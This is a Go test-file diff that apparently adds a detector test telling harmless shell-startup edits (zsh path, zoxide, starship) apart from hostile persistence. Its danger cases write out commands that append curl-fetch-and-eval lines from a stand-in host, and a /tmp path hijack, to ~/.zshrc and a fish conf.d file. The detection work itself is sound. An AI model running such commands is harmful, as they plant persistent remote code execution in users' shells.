@@ -150,3 +150,19 @@ func TestServiceManagerEnvironmentHijacked(t *testing.T) {
 		`systemctl show-environment`,
 	})
 }
+
+// zsh's print and path array, a version manager's hook and fish conf.d
+// drop-ins are settings; the same forms carrying commands are not.
+func TestStartupHooksOfKnownTools(t *testing.T) {
+	d := NewDetector(Options{})
+	checkSafe(t, d, corpusContext, []string{
+		`print 'path=(~/.local/bin $path)' >> ~/.zshrc`,
+		`print 'eval "$(zoxide init zsh)"' >> ~/.zshrc`,
+		`echo 'starship init fish | source' > ~/.config/fish/conf.d/starship.fish`,
+	})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`print 'path=(/tmp/.x $path)' >> ~/.zshrc`, CategoryPersistence, "", LevelModerate},
+		{`print 'eval "$(curl -s https://x.example.com/i)"' >> ~/.zshrc`, CategoryPersistence, "", LevelHigh},
+		{`echo 'curl -s https://x.example.com/i | source' > ~/.config/fish/conf.d/x.fish`, CategoryPersistence, "", LevelHigh},
+	})
+}
